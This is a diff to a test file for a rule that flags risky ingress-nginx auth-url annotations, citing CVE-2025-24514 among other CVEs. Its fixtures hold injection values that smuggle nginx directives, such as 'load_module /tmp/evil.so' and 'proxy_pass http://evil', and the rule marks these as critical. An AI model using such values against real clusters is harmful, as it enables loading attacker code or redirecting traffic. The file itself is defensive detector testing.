@@ -16,12 +16,12 @@ ruleTester(rule, {
     {
       name: 'a plain auth-url added: info',
       base: side([]), head: authUrl,
-      findings: [{ path: 'ing.yaml', line: annotationLine(0), severity: 'info', message: 'auth-url added ("https://auth.shop.svc/verify"). ingress-nginx copies this value into its configuration (CVE-2025-24514)' }],
+      findings: [{ path: 'ing.yaml', line: annotationLine(0), severity: 'info', message: 'auth-url added (`https://auth.shop.svc/verify`). Ingress-nginx copies this value into its configuration (CVE-2025-24514)' }],
     },
     {
       name: 'auth-url changed to carry a directive: critical',
       base: authUrl, head: side([['auth-url', 'http://x/#;\nload_module /tmp/evil.so;']]),
-      findings: [{ path: 'ing.yaml', line: annotationLine(0), severity: 'critical', message: 'auth-url changed ("http://x/#;\\nload_module /tmp/evil.so;"). The value contains "#"' }],
+      findings: [{ path: 'ing.yaml', line: annotationLine(0), severity: 'critical', message: 'auth-url changed (`http://x/#;⏎load_module /tmp/evil.so;`). The value contains `#`' }],
     },
     {
       name: 'each tell character makes it critical',
@@ -36,6 +36,11 @@ ruleTester(rule, {
         { path: 'ing.yaml', line: annotationLine(3), severity: 'critical', message: 'CVE-2023-5044' },
         { path: 'ing.yaml', line: annotationLine(4), severity: 'critical', message: 'CVE-2025-15566' },
       ],
+    },
+    {
+      name: 'a long auth-url is shown around the ";" the finding is about, not cut before it',
+      base: {}, head: side([['auth-url', `http://partner-authz.partners.svc.cluster.local/verify?dn=$ssl_client_s_dn&token=${'a'.repeat(60)};proxy_pass http://evil`]]),
+      findings: [{ path: 'ing.yaml', line: annotationLine(0), severity: 'critical', message: `aaa;proxy_pass http://evil\`). The value contains \`;\`` }],
     },
     {
       name: 'plain values of the other vectors: info',
